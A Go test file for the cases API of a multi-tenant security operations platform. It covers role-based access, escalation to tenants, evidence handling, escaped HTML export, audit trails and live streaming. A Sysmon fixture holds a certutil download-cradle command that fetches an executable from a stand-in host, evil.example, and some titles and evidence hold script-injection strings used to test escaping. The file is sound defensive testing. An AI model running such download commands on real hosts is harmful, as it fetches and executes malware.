package web_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"mime/multipart"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tarian-soc/tarian/internal/server/servertest"
)

// caseRule raises a high alert for each run of certutil.exe.
const caseRule = `title: certutil run
id: 0c6a3f7e-0000-4000-8000-0000000ca5e1
author: Tarian tests
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\certutil.exe'}
  condition: sel
level: high
`

// caseEvent is a Sysmon process creation of certutil.exe on host by user.
func caseEvent(host, user string, n int) string {
	b, _ := json.Marshal(map[string]any{"Event": map[string]any{
		"System": map[string]any{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host, "EventRecordID": n,
			"Provider":    map[string]any{"#attributes": map[string]any{"Name": "Microsoft-Windows-Sysmon"}},
			"TimeCreated": map[string]any{"#attributes": map[string]any{"SystemTime": time.Now().UTC().Format(time.RFC3339Nano)}}},
		"EventData": map[string]any{"Image": `C:\Windows\System32\certutil.exe`, "CommandLine": "certutil -urlcache -f http://evil.example/a.exe", "User": user, "ProcessId": n},
	}})
	return string(b)
}

// newCaseWorld is newWorld with evidence files limited to 64 KiB.
func newCaseWorld(t *testing.T) *world {
	t.Helper()
	cfg := servertest.Config(t.TempDir())
	cfg.Cases.MaxEvidenceBytes = 64 << 10
	s := servertest.Start(t, cfg)
	w := &world{s: s, tokens: map[string]string{"provider-admin": servertest.AdminToken}}
	for _, ten := range []string{"a", "b"} {
		id := "tenant-" + ten
		s.AddTenant(t, id)
		for _, role := range []string{"ingest", "tenant-viewer", "tenant-analyst", "tenant-admin"} {
			w.tokens[ten+"/"+role] = s.Token(t, id, role)
		}
	}
	w.tokens["provider-analyst"] = s.Token(t, "", "provider-analyst")
	return w
}

// alertOf waits for tenant ten's first alert and returns its ID.
func (w *world) alertOf(t *testing.T, ten string) int64 {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		var out struct{ Alerts []struct{ ID int64 } }
		w.s.JSON(t, "GET", "/api/v1/alerts?tenant="+ten, w.tokens["provider-analyst"], nil, &out)
		if len(out.Alerts) > 0 {
			return out.Alerts[0].ID
		}
		if time.Now().After(deadline) {
			t.Fatalf("no alert in %s after 30 s", ten)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

type caseJSON struct {
	ID             int64
	Tenant         string
	Title          string
	Status         string
	Severity       string
	TLP            string
	Assignee       string
	Classification string
	Summary        string
	Escalated      time.Time
	Acknowledged   time.Time `json:"acknowledged_by_member"`
	Alerts         []int64
	Observables    []struct{ Type, Value, Source string }
	Tasks          []struct {
		ID    int64
		Title string
		Done  bool
	}
	Evidence []struct {
		SHA256 string
		Name   string
		Size   int64
	}
	Timeline []struct {
		Kind, Author, Role, Text string
		Data                     map[string]string
	}
}

// zero clears *p before a JSON answer is decoded into it.
func zero[T any](p *T) *T {
	var z T
	*p = z
	return p
}

func (w *world) caseAs(t *testing.T, token string, id int64) caseJSON {
	t.Helper()
	var c caseJSON
	w.s.JSON(t, "GET", fmt.Sprintf("/api/v1/cases/%d", id), token, nil, zero(&c))
	return c
}

// TestCasesAPI drives a case through the API from alerts to closure:
// roles, escalation to the member, and a 404 on every route for anyone
// who may not see the case.
func TestCasesAPI(t *testing.T) {
	w := newCaseWorld(t)
	s := w.s
	prov := w.tokens["provider-analyst"]
	var res map[string]any
	s.JSON(t, "POST", "/api/v1/rules", servertest.AdminToken, map[string]any{"files": []map[string]any{{"name": "certutil.yml", "data": []byte(caseRule)}}}, &res)
	w.ingest(t, "a", caseEvent("pc-a", `COUNCIL\alice`, 1))
	w.ingest(t, "b", caseEvent("pc-b", `OTHER\bob`, 2))
	alertA, alertB := w.alertOf(t, "tenant-a"), w.alertOf(t, "tenant-b")

	// Opening: the provider's, from the same tenant's alerts only.
	var c caseJSON
	s.JSON(t, "POST", "/api/v1/cases", prov, map[string]any{"tenant": "tenant-a", "title": `Certutil <script>alert(1)</script>`, "severity": "high", "from_alerts": []int64{alertA}}, zero(&c))
	if c.ID == 0 || c.Tenant != "tenant-a" || c.Status != "open" || c.TLP != "AMBER" || fmt.Sprint(c.Alerts) != fmt.Sprint([]int64{alertA}) {
		t.Fatalf("created %+v", c)
	}
	hasHost := false
	for _, o := range c.Observables {
		hasHost = hasHost || o.Type == "host" && o.Value == "pc-a"
	}
	if !hasHost || len(c.Timeline) != 2 || c.Timeline[0].Kind != "alert" {
		t.Errorf("observables %+v, timeline %+v", c.Observables, c.Timeline)
	}
	id := c.ID
	for _, tt := range []struct {
		token, body string
		status      int
		code        string
	}{
		{prov, `{"tenant":"tenant-a","title":"x","from_alerts":[` + fmt.Sprint(alertB) + `]}`, 404, "not_found"},
		{prov, `{"title":"x"}`, 400, "bad_request"},
		{prov, `{"tenant":"*","title":"x"}`, 400, "bad_request"},
		{prov, `{"tenant":"nobody","title":"x"}`, 404, "tenant_not_found"},
		{prov, `{"tenant":"tenant-a","title":""}`, 400, "bad_request"},
		{prov, `{"tenant":"tenant-a","title":"x","tlp":"WHITE"}`, 400, "bad_request"},
		{w.tokens["a/tenant-admin"], `{"tenant":"tenant-a","title":"x"}`, 403, "forbidden"},
		{w.tokens["a/tenant-analyst"], `{"title":"x"}`, 403, "forbidden"},
		{w.tokens["a/ingest"], `{"title":"x"}`, 403, "forbidden"},
	} {
		status, body := s.Do(t, "POST", "/api/v1/cases", tt.token, []byte(tt.body))
		if status != tt.status || errorCode(t, body) != tt.code {
			t.Errorf("POST /api/v1/cases %s: %d %s, want %d %s", tt.body, status, body, tt.status, tt.code)
		}
	}

	// The provider works the case.
	var ev struct{ SHA256, Name string }
	payload := []byte("<html><script>alert('evidence')</script></html>")
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	fw, _ := mw.CreateFormFile("file", "page.html")
	fw.Write(payload)
	mw.Close()
	req, _ := http.NewRequest("POST", fmt.Sprintf("%s/api/v1/cases/%d/evidence", s.URL, id), &mp)
	req.Header.Set("Authorization", "Bearer "+prov)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	json.NewDecoder(resp.Body).Decode(&ev)
	resp.Body.Close()
	sum := sha256.Sum256(payload)
	if resp.StatusCode != 201 || ev.SHA256 != hex.EncodeToString(sum[:]) || ev.Name != "page.html" {
		t.Fatalf("multipart evidence: %d %+v", resp.StatusCode, ev)
	}
	var raw struct{ SHA256, Name string }
	s.JSON(t, "POST", fmt.Sprintf("/api/v1/cases/%d/evidence?name=notes.txt", id), prov, "raw notes", &raw)
	if raw.Name != "notes.txt" {
		t.Errorf("raw evidence %+v", raw)
	}
	if status, body := s.Do(t, "POST", fmt.Sprintf("/api/v1/cases/%d/evidence?name=big.bin", id), prov, make([]byte, 64<<10+1)); status != 413 || errorCode(t, body) != "evidence_too_large" {
		t.Errorf("oversized evidence: %d %s", status, body)
	}
	path := fmt.Sprintf("/api/v1/cases/%d", id)
	s.JSON(t, "POST", path+"/comments", prov, map[string]string{"text": "Looks like a download cradle."}, nil)
	s.JSON(t, "POST", path+"/tasks", prov, map[string]string{"title": "Isolate pc-a"}, zero(&c))
	task := c.Tasks[0].ID
	s.JSON(t, "PATCH", fmt.Sprintf("%s/tasks/%d", path, task), prov, map[string]bool{"done": true}, zero(&c))
	if !c.Tasks[0].Done {
		t.Errorf("task %+v", c.Tasks[0])
	}
	s.JSON(t, "POST", path+"/observables", prov, map[string]string{"type": "domain", "value": "evil.example"}, nil)
	s.JSON(t, "POST", path+"/events", prov, map[string]string{"time": "-2h", "text": "First download seen at the proxy", "event_ref": "12:0"}, zero(&c))
	if c.Timeline[0].Kind != "event" {
		t.Errorf("an event two hours back is not first: %+v", c.Timeline[0])
	}
	s.JSON(t, "POST", path+"/assign", prov, map[string]string{"to": "alice"}, zero(&c))
	s.JSON(t, "PATCH", path, prov, map[string]string{"tlp": "amber+strict"}, zero(&c))
	if c.Status != "in-progress" || c.Assignee != "alice" || c.TLP != "AMBER+STRICT" {
		t.Errorf("after assign and patch: %+v", c)
	}
	if status, body := s.Do(t, "POST", path+"/acknowledge", prov, nil); status != 403 || errorCode(t, body) != "forbidden" {
		t.Errorf("provider acknowledging: %d %s", status, body)
	}
	if status, body := s.Do(t, "POST", path+"/reopen", prov, nil); status != 409 || errorCode(t, body) != "transition_not_allowed" {
		t.Errorf("reopening an open case: %d %s", status, body)
	}

	// Every route, for everyone who may not see the case: 404, with the
	// words of a case that does not exist; ingest tokens are refused.
	missing := id + 1000
	routes := func(id int64) [][3]string {
		p := fmt.Sprintf("/api/v1/cases/%d", id)
		return [][3]string{
			{"GET", p, ""}, {"PATCH", p, `{"title":"x"}`}, {"GET", p + "/export", ""}, {"GET", p + "/export?format=html", ""},
			{"POST", p + "/comments", `{"text":"x"}`}, {"POST", p + "/tasks", `{"title":"x"}`}, {"PATCH", fmt.Sprintf("%s/tasks/%d", p, task), `{"done":false}`},
			{"POST", p + "/observables", `{"type":"ip","value":"x"}`}, {"POST", p + "/alerts", fmt.Sprintf(`{"ids":[%d]}`, alertA)},
			{"POST", p + "/events", `{"text":"x"}`}, {"POST", p + "/evidence?name=x", "data"}, {"GET", p + "/evidence/" + ev.SHA256, ""},
			{"POST", p + "/assign", `{"to":"x"}`}, {"POST", p + "/escalate", ""}, {"POST", p + "/acknowledge", ""},
			{"POST", p + "/close", `{"classification":"true-positive","summary":"x"}`}, {"POST", p + "/reopen", ""},
		}
	}
	// hidden: who learns nothing of the case. A role the route does not
	// admit is refused (403, naming the route) whatever the case, the same
	// as for a case that does not exist; every other role gets the missing
	// case's 404.
	hidden := func(who string, token string) {
		t.Helper()
		gone := routes(missing)
		for i, rt := range routes(id) {
			status, body := s.Do(t, rt[0], rt[1], token, []byte(rt[2]))
			if status == 403 && strings.Contains(string(body), "may not call") {
				if st, b := s.Do(t, gone[i][0], gone[i][1], token, []byte(gone[i][2])); st != 403 || !strings.Contains(string(b), "may not call") {
					t.Errorf("%s %s %s: 403 for the case, %d %s for a missing one", who, rt[0], rt[1], st, b)
				}
				continue
			}
			if status != 404 || errorCode(t, body) != "not_found" {
				t.Errorf("%s %s %s: %d %s, want 404", who, rt[0], rt[1], status, body)
				continue
			}
			if !strings.Contains(string(body), fmt.Sprintf(`"not found: case %d"`, id)) {
				t.Errorf("%s %s %s: 404 body %s is not a missing case's", who, rt[0], rt[1], body)
			}
		}
	}
	before := w.caseAs(t, prov, id)
	for _, who := range []string{"a/tenant-analyst", "a/tenant-admin", "a/tenant-viewer", "a/ingest", "b/tenant-analyst", "b/tenant-admin", "b/tenant-viewer", "b/ingest"} {
		hidden(who, w.tokens[who])
	}
	for _, rt := range routes(missing) {
		status, body := s.Do(t, rt[0], rt[1], prov, []byte(rt[2]))
		if status == 403 && strings.Contains(string(body), "may not call") {
			continue // a member's verb (acknowledge): refused whatever the case
		}
		if status != 404 || !strings.Contains(string(body), fmt.Sprintf(`"not found: case %d"`, missing)) {
			t.Errorf("provider %s %s: %d %s", rt[0], rt[1], status, body)
		}
	}
	if after := w.caseAs(t, prov, id); len(after.Timeline) != len(before.Timeline) || after.Title != before.Title || !after.Escalated.IsZero() {
		t.Fatalf("refused requests changed the case: %+v", after)
	}
	var list struct{ Cases []caseJSON }
	s.JSON(t, "GET", "/api/v1/cases", w.tokens["a/tenant-analyst"], nil, zero(&list))
	if len(list.Cases) != 0 {
		t.Errorf("member lists %+v before escalation", list.Cases)
	}

	// Escalation shares it with tenant-a's users, and them only.
	s.JSON(t, "POST", path+"/escalate", prov, nil, zero(&c))
	if c.Escalated.IsZero() {
		t.Fatalf("escalate: %+v", c)
	}
	for _, who := range []string{"b/tenant-analyst", "b/tenant-admin", "b/tenant-viewer", "b/ingest", "a/ingest"} {
		hidden(who, w.tokens[who])
	}
	s.JSON(t, "GET", "/api/v1/cases", w.tokens["b/tenant-analyst"], nil, zero(&list))
	if len(list.Cases) != 0 {
		t.Errorf("another member lists %+v", list.Cases)
	}
	if status, _ := s.Do(t, "GET", "/api/v1/cases?tenant=tenant-a", w.tokens["b/tenant-admin"], nil); status != 403 {
		t.Errorf("another member listing tenant-a: %d", status)
	}
	for _, who := range []string{"a/tenant-analyst", "a/tenant-admin", "a/tenant-viewer"} {
		s.JSON(t, "GET", "/api/v1/cases", w.tokens[who], nil, zero(&list))
		if len(list.Cases) != 1 || list.Cases[0].ID != id || list.Cases[0].Timeline != nil {
			t.Errorf("%s lists %+v", who, list.Cases)
		}
		// The member's roles: read everything; analysts and admins also
		// comment and acknowledge; nothing else.
		for _, rt := range routes(id) {
			want := 403
			switch {
			case rt[0] == "GET":
				want = 200
			case strings.HasSuffix(rt[1], "/comments") && who != "a/tenant-viewer":
				want = 200
			case strings.HasSuffix(rt[1], "/acknowledge") && who != "a/tenant-viewer":
				continue // below
			}
			if status, body := s.Do(t, rt[0], rt[1], w.tokens[who], []byte(rt[2])); status != want {
				t.Errorf("%s %s %s: %d %s, want %d", who, rt[0], rt[1], status, body, want)
			}
		}
	}
	s.JSON(t, "POST", path+"/comments", w.tokens["a/tenant-analyst"], map[string]string{"text": "We have isolated pc-a."}, zero(&c))
	last := c.Timeline[len(c.Timeline)-1]
	if last.Kind != "comment" || last.Role != "tenant-analyst" || last.Text != "We have isolated pc-a." {
		t.Errorf("member's comment %+v", last)
	}
	s.JSON(t, "POST", path+"/acknowledge", w.tokens["a/tenant-analyst"], nil, zero(&c))
	if c.Acknowledged.IsZero() {
		t.Errorf("acknowledged: %+v", c)
	}
	if status, body := s.Do(t, "POST", path+"/acknowledge", w.tokens["a/tenant-admin"], nil); status != 409 || errorCode(t, body) != "transition_not_allowed" {
		t.Errorf("acknowledging twice: %d %s", status, body)
	}
	// The member downloads the evidence as bytes to save, never a page.
	req, _ = http.NewRequest("GET", s.URL+path+"/evidence/"+ev.SHA256, nil)
	req.Header.Set("Authorization", "Bearer "+w.tokens["a/tenant-viewer"])
	resp, err = http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var got bytes.Buffer
	got.ReadFrom(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !bytes.Equal(got.Bytes(), payload) || resp.Header.Get("Content-Type") != "application/octet-stream" ||
		!strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("evidence download: %d %v %q", resp.StatusCode, resp.Header, got.Bytes())
	}

	// Export: JSON, and a page with everything escaped; both hold the
	// linked alert and its history (the member's comment on it).
	s.JSON(t, "POST", fmt.Sprintf("/api/v1/alerts/%d/comment", alertA), w.tokens["a/tenant-analyst"], map[string]string{"note": "pc-a <b>wiped</b>"}, nil)
	var exp struct {
		caseJSON
		LinkedAlerts []struct {
			ID      int64
			History []struct{ Verb, Note string }
		} `json:"linked_alerts"`
	}
	s.JSON(t, "GET", path+"/export", w.tokens["a/tenant-analyst"], nil, zero(&exp))
	if exp.ID != id || len(exp.Timeline) != len(c.Timeline) || len(exp.Evidence) != 2 {
		t.Errorf("JSON export %+v", exp)
	}
	if la := exp.LinkedAlerts; len(la) != 1 || la[0].ID != alertA || len(la[0].History) == 0 || la[0].History[len(la[0].History)-1].Note != "pc-a <b>wiped</b>" {
		t.Errorf("JSON export's linked alerts %+v: want alert %d with the member's comment last in its history", la, alertA)
	}
	req, _ = http.NewRequest("GET", s.URL+path+"/export?format=html", nil)
	req.Header.Set("Authorization", "Bearer "+w.tokens["a/tenant-viewer"])
	resp, err = http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	got.Reset()
	got.ReadFrom(resp.Body)
	resp.Body.Close()
	page := got.String()
	text := html.UnescapeString(page)
	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "default-src 'none'") {
		t.Errorf("HTML export: %d %v", resp.StatusCode, resp.Header)
	}
	for _, want := range []string{"<!DOCTYPE html>", "TLP:AMBER+STRICT", "We have isolated pc-a.", "evil.example", "Isolate pc-a", ev.SHA256, "acknowledged by the member",
		"pc-a <b>wiped</b>"} {
		if !strings.Contains(text, want) {
			t.Errorf("HTML export lacks %q", want)
		}
	}
	if strings.Contains(page, "<script>") || strings.Contains(page, "<b>wiped") || !strings.Contains(page, "Certutil &lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Error("HTML export holds a live <script>")
	}
	if status, _ := s.Do(t, "GET", path+"/export?format=pdf", prov, nil); status != 400 {
		t.Errorf("format=pdf: %d", status)
	}

	// Closing, refusals, comments on a closed case, reopening.
	if status, body := s.Do(t, "POST", path+"/close", prov, []byte(`{"classification":"maybe","summary":"x"}`)); status != 400 || errorCode(t, body) != "bad_request" {
		t.Errorf("bad classification: %d %s", status, body)
	}
	s.JSON(t, "POST", path+"/close", prov, map[string]string{"classification": "true-positive", "summary": "Malware download blocked; host reimaged."}, zero(&c))
	if c.Status != "closed" || c.Classification != "true-positive" {
		t.Errorf("closed %+v", c)
	}
	// Its alert is resolved with it, so the queue, service levels and
	// reports agree with the case; the change is audited.
	var closedAlert struct{ Status, Resolution, Note string }
	s.JSON(t, "GET", fmt.Sprintf("/api/v1/alerts/%d", alertA), prov, nil, &closedAlert)
	if closedAlert.Status != "resolved" || closedAlert.Resolution != "true-positive" || closedAlert.Note != fmt.Sprintf("closed with case %d: Malware download blocked; host reimaged.", id) {
		t.Errorf("the case's alert after the close: %+v", closedAlert)
	}
	var trail struct {
		Records []struct{ Action, Detail string }
	}
	s.JSON(t, "GET", "/api/v1/audit?tenant=tenant-a&limit=20", servertest.AdminToken, nil, &trail)
	if !slices.ContainsFunc(trail.Records, func(r struct{ Action, Detail string }) bool {
		return r.Action == "alert.resolve" && strings.Contains(r.Detail, fmt.Sprintf(`"id":%d`, alertA))
	}) {
		t.Errorf("no alert.resolve of alert %d in tenant-a's audit trail: %+v", alertA, trail.Records)
	}
	status, body := s.Do(t, "POST", path+"/close", prov, []byte(`{"classification":"true-positive","summary":"again"}`))
	if status != 409 || errorCode(t, body) != "transition_not_allowed" || !strings.Contains(string(body), "already closed") {
		t.Errorf("closing twice: %d %s", status, body)
	}
	if status, body := s.Do(t, "POST", path+"/tasks", prov, []byte(`{"title":"late"}`)); status != 409 {
		t.Errorf("task on a closed case: %d %s", status, body)
	}
	s.JSON(t, "POST", path+"/comments", w.tokens["a/tenant-admin"], map[string]string{"text": "Thank you."}, nil)
	s.JSON(t, "POST", path+"/reopen", prov, nil, zero(&c))
	if c.Status != "in-progress" || c.Classification != "" {
		t.Errorf("reopened %+v", c)
	}

	// Lists: the provider's scope, paging, filters.
	var other caseJSON
	s.JSON(t, "POST", "/api/v1/cases", prov, map[string]any{"tenant": "tenant-b", "title": "B's case"}, &other)
	var all struct {
		Cases      []caseJSON
		NextCursor string `json:"next_cursor"`
	}
	s.JSON(t, "GET", "/api/v1/cases?tenant=*&limit=1", prov, nil, zero(&all))
	if len(all.Cases) != 1 || all.Cases[0].ID != other.ID || all.NextCursor == "" {
		t.Fatalf("first page %+v", all)
	}
	cursor := all.NextCursor
	s.JSON(t, "GET", "/api/v1/cases?tenant=*&cursor="+cursor, prov, nil, zero(&all))
	if len(all.Cases) != 1 || all.Cases[0].ID != id || all.NextCursor != "" {
		t.Errorf("second page %+v", all)
	}
	s.JSON(t, "GET", "/api/v1/cases?tenant=tenant-b&status=open", prov, nil, zero(&all))
	if len(all.Cases) != 1 || all.Cases[0].ID != other.ID {
		t.Errorf("tenant-b open %+v", all)
	}
	s.JSON(t, "GET", fmt.Sprintf("/api/v1/cases?tenant=*&alert=%d", alertA), prov, nil, zero(&all))
	if len(all.Cases) != 1 || all.Cases[0].ID != id {
		t.Errorf("alert=%d: %+v, want case %d only", alertA, all, id)
	}
	s.JSON(t, "GET", fmt.Sprintf("/api/v1/cases?tenant=*&alert=%d", alertB), prov, nil, zero(&all))
	if len(all.Cases) != 0 {
		t.Errorf("alert=%d (in no case): %+v", alertB, all)
	}
	for _, q := range []string{"", "?status=shut", "?tenant=*&limit=0", "?tenant=*&alert=x"} {
		if status, body := s.Do(t, "GET", "/api/v1/cases"+q, prov, nil); status/100 != 4 {
			t.Errorf("GET /api/v1/cases%s: %d %s", q, status, body)
		}
	}
	if status, _ := s.Do(t, "GET", "/api/v1/cases", w.tokens["a/ingest"], nil); status != 403 {
		t.Errorf("ingest token lists: %d", status)
	}

	// Every change is in the audit trail with its before and after.
	var audit struct {
		Records []struct{ Action, Scope, Role, Detail string }
	}
	s.JSON(t, "GET", "/api/v1/audit?limit=1000", servertest.AdminToken, nil, &audit)
	actions := map[string]int{}
	for _, r := range audit.Records {
		actions[r.Action]++
		if r.Action == "case.acknowledge" {
			var d struct {
				ID            int64
				Before, After map[string]any
			}
			if err := json.Unmarshal([]byte(r.Detail), &d); err != nil || d.ID != id || d.Before["acknowledged_by_member"] != "0001-01-01T00:00:00Z" || d.After["acknowledged_by_member"] == d.Before["acknowledged_by_member"] || r.Scope != "tenant-a" || r.Role != "tenant-analyst" {
				t.Errorf("acknowledge audit %+v (%v)", r, err)
			}
		}
	}
	for _, a := range []string{"case.create", "case.comment", "case.task", "case.observable", "case.event", "case.evidence", "case.assign", "case.update", "case.escalate", "case.acknowledge", "case.close", "case.reopen", "cases.read"} {
		if actions[a] == 0 {
			t.Errorf("no %s in the audit trail", a)
		}
	}
}

// TestCaseStream: a case change reaches the live stream of its member's
// users only once the case is escalated, and never another member's.
func TestCaseStream(t *testing.T) {
	w := newCaseWorld(t)
	s := w.s
	open := func(token string) chan string {
		ctx, cancel := context.WithCancel(context.Background())
		t.Cleanup(cancel)
		req, _ := http.NewRequestWithContext(ctx, "GET", s.URL+"/api/v1/stream?kind=case", nil)
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := http.DefaultClient.Do(req)
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("stream: %v %v", resp, err)
		}
		ch := make(chan string, 100)
		go func() {
			defer resp.Body.Close()
			sc := bufio.NewScanner(resp.Body)
			sc.Buffer(nil, 1<<20)
			for sc.Scan() {
				if data, ok := strings.CutPrefix(sc.Text(), "data: "); ok {
					var m struct {
						What string
						Case struct {
							ID       int64
							Timeline []struct{ Text string }
						}
					}
					json.Unmarshal([]byte(data), &m)
					text := ""
					if len(m.Case.Timeline) > 0 {
						text = m.Case.Timeline[len(m.Case.Timeline)-1].Text
					}
					ch <- fmt.Sprintf("%d %s %s", m.Case.ID, m.What, text)
				}
			}
		}()
		return ch
	}
	memberA, memberB := open(w.tokens["a/tenant-analyst"]), open(w.tokens["b/tenant-analyst"])
	prov := w.tokens["provider-analyst"]
	var c caseJSON
	s.JSON(t, "POST", "/api/v1/cases", prov, map[string]any{"tenant": "tenant-a", "title": "Streamed"}, zero(&c))
	path := fmt.Sprintf("/api/v1/cases/%d", c.ID)
	s.JSON(t, "POST", path+"/comments", prov, map[string]string{"text": "internal note"}, nil)
	s.JSON(t, "POST", path+"/escalate", prov, nil, nil)
	s.JSON(t, "POST", path+"/comments", prov, map[string]string{"text": "for the member"}, nil)
	next := func(ch chan string) string {
		select {
		case e := <-ch:
			return e
		case <-time.After(20 * time.Second):
			return "nothing"
		}
	}
	if e := next(memberA); e != fmt.Sprintf("%d escalate escalated to the member", c.ID) {
		t.Errorf("member a's first case event %q (internal changes must not reach it)", e)
	}
	if e := next(memberA); e != fmt.Sprintf("%d comment for the member", c.ID) {
		t.Errorf("member a's second case event %q", e)
	}
	select {
	case e := <-memberB:
		t.Errorf("member b got %q", e)
	case <-time.After(300 * time.Millisecond):
	}
}

// TestCaseTemplates: provider roles list the templates (members may not);
// a case opened with one starts with its tasks; an unknown one is 400.
func TestCaseTemplates(t *testing.T) {
	w := newCaseWorld(t)
	provider := w.tokens["provider-analyst"]
	var list struct {
		Templates []struct {
			Name  string
			Tasks []string
		}
	}
	w.s.JSON(t, "GET", "/api/v1/cases/templates", provider, nil, &list)
	names := map[string]int{}
	for _, tm := range list.Templates {
		names[tm.Name] = len(tm.Tasks)
	}
	if names["Phishing"] == 0 || names["Ransomware"] == 0 || len(names) != 4 {
		t.Fatalf("templates %v, want the four defaults with their tasks", names)
	}
	if st, b := w.s.Do(t, "GET", "/api/v1/cases/templates", w.tokens["a/tenant-admin"], nil); st != 403 {
		t.Errorf("a member's admin lists templates: %d %s", st, b)
	}
	var c caseJSON
	w.s.JSON(t, "POST", "/api/v1/cases", provider, map[string]any{"tenant": "tenant-a", "title": "Ransomware at A", "template": "ransomware"}, &c)
	if len(c.Tasks) != names["Ransomware"] || c.Tasks[0].Title != "Isolate the affected hosts from the network, keeping them powered on" {
		t.Errorf("the case's tasks %+v, want the Ransomware template's", c.Tasks)
	}
	body, _ := json.Marshal(map[string]any{"tenant": "tenant-a", "title": "x", "template": "Smishing"})
	if st, b := w.s.Do(t, "POST", "/api/v1/cases", provider, body); st != 400 || !strings.Contains(string(b), `no such case template \"Smishing\"`) {
		t.Errorf("an unknown template: %d %s", st, b)
	}
}
